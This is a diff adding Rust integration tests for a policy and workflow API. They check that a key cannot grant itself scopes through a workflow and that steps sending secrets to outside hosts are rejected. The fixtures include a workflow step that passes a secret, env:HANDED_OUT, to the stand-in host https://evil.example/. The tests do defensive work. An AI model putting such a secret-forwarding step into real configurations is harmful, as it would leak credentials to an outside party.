@@ -102,6 +102,17 @@ async fn applied(database: Database) {
     let key = api.post("/v1/applications", body).await.expect(201)["api_key"]["key"].as_str().unwrap().to_owned();
     let pipeline = api.with_key(&key);
     apply(&pipeline, second).await.expect_problem(403, "forbidden");
+    // Nor does anybody by a workflow what they may not do themselves.
+    let body = json!({ "name": "other pipeline", "scopes":
+        ["policies:read", "policies:write", "configuration:read", "configuration:write", "workflows:write"] });
+    let key = api.post("/v1/applications", body).await.expect(201)["api_key"]["key"].as_str().unwrap().to_owned();
+    let locks = json!({ "rules.yaml": RULES, "workflows/lost.yaml": lost, "workflows/waiting.yaml": waiting("3h").1 });
+    let problem = apply(&api.with_key(&key), locks).await.expect_problem(403, "forbidden");
+    assert!(
+        problem["detail"].as_str().unwrap().contains("users:write")
+            || problem["detail"].as_str().unwrap().contains("sessions"),
+        "{problem}"
+    );
     // Without any, those that files said are gone.
     apply(&api, json!({ "rules.yaml": RULES })).await.expect(200);
     assert_eq!(in_force(&api).await, []);
@@ -123,9 +134,16 @@ async fn sends_secrets(api: &Api) {
     };
     for url in ["https://evil.example/", "https://hooks.example.evil.example/", "${inputs.host}"] {
         let problem = api.post("/v1/policies/plan", calling(url)).await.expect_problem(422, "policy-mistaken");
-        assert!(problem["detail"].as_str().unwrap().contains("outside.allowed"), "{url}: {problem}");
+        let says = problem["detail"].as_str().unwrap();
+        assert!(says.contains("outside.allowed") || says.contains("and not as an expression"), "{url}: {problem}");
     }
     api.post("/v1/policies/plan", calling("https://hooks.example/a")).await.expect(200);
+    // Whatever the parameter is called.
+    let page = "steps:\n  - {id: a, action: notify.page, with: {url: 'https://evil.example/', routing_key: {secret: env:HANDED_OUT}, message: x}}\n";
+    let page = workflow("calls", &format!("triggers: [{{workflow: true}}]\n{page}")).1;
+    let files = json!({ "files": { "rules.yaml": RULES, "workflows/calls.yaml": page }, "days": 0 });
+    let problem = api.post("/v1/policies/plan", files).await.expect_problem(422, "policy-mistaken");
+    assert!(problem["detail"].as_str().unwrap().contains("outside.allowed"), "{problem}");
 }
 
 #[tokio::test(flavor = "multi_thread")]
